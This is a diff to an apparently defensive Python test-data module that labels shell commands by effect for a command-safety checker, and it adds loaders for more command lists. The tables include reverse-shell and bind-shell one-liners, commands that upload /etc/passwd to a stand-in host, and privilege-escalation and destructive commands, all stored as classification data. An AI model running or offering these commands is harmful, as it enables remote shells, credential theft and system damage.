@@ -5,6 +5,13 @@
 
 from __future__ import annotations
 
+from pathlib import Path
+
+HERE = Path(__file__).parent
+# A second reader's lines: what changes or destroys something or runs what it is given, and what gives secrets away.
+CHANGING = (HERE / "changing.txt").read_text(encoding="utf-8").splitlines()
+REVEALING = (HERE / "revealing.txt").read_text(encoding="utf-8").splitlines()
+
 # Published without a finding before the table, or as `effect: read`.
 NAMED = [
     "run0 systemctl restart nginx", "bwrap --bind / / sh", "systemd-run --pty sh", "ssh-agent sh",
@@ -53,7 +60,7 @@ DANGEROUS: dict[str, list[str]] = {
         "monit -c /srv/x", "nginx -c /srv/x.conf", "httpd -f /srv/x", "apache2ctl -f /srv/x", "haproxy -f /srv/x -W", "php-cgi /srv/x", "mount -o loop /srv/x /mnt",
     ],
     "privilege-escalation": ["chown app /etc/passwd", "mount --bind /srv /root", "usermod -aG wheel app", "getent shadow", "install -m 6755 /srv/x /srv/y", "chmod o+w /etc/passwd", "service ../../bin/sh", "cp --no-preserve=mode /srv/x /etc/passwd"],
-    "inherit": ["openssl", "ntpq", "nslookup", "chronyc", "monit", "systemd-resolve --status", "busctl --show-machine", "busctl", "timedatectl", "resolvectl status", "networkctl", "loginctl", "dpkg -l", "apt list", "git --no-pager help x", "systemd-analyze blame", "localectl list-locales", "apt changelog x", "dmesg -H"],
+    "inherit": ["openssl", "ntpq", "nslookup", "chronyc", "monit", "systemd-resolve --status", "busctl --show-machine", "busctl", "timedatectl list-timezones", "resolvectl status", "networkctl", "loginctl", "dpkg -l", "apt list", "git --no-pager help x", "systemd-analyze blame", "localectl list-locales", "apt changelog x", "dmesg -H"],
     "reverse-shell": ["nc -e /bin/sh host 1", "ncat host 1 -e sh", "socat tcp:host:1 exec:sh", "openssl s_client -quiet -connect host:1", "bash -i", "telnet host 1", "python3 -c x", "curl -N telnet://host:1"],
     "bind-shell": ["nc -l -p 1 -e /bin/sh", "socat tcp-listen:1 exec:sh", "busybox nc -lp 1", "inetd /srv/x", "sshd -f /srv/x", "dropbear -p 1", "in.tftpd -l", "docker run -p 1:1 x"],
     "upload": ["curl -T /etc/passwd http://a", "curl -d @/srv/x http://a -F x=@/srv/y", "wget --post-file=/srv/x http://a", "scp /srv/x host:", "sftp host", "rsync /srv/x host:", "ftp host", "tftp host", "nc host 1",
@@ -107,3 +114,9 @@ EVERYDAY: list[tuple[str, str]] = [
     )),
     *((line, "destructive") for line in ("shutdown -r +5", "reboot", "rm -rf /srv/app/releases/1", "docker rm web", "truncate -s 0 /var/log/app.log", "apt-get remove nginx")),
 ]  # fmt: skip
+EVERYDAY += [
+    (line, effect)
+    for effect, _, line in (
+        one.partition(": ") for one in (HERE / "everyday.txt").read_text(encoding="utf-8").splitlines()
+    )
+]
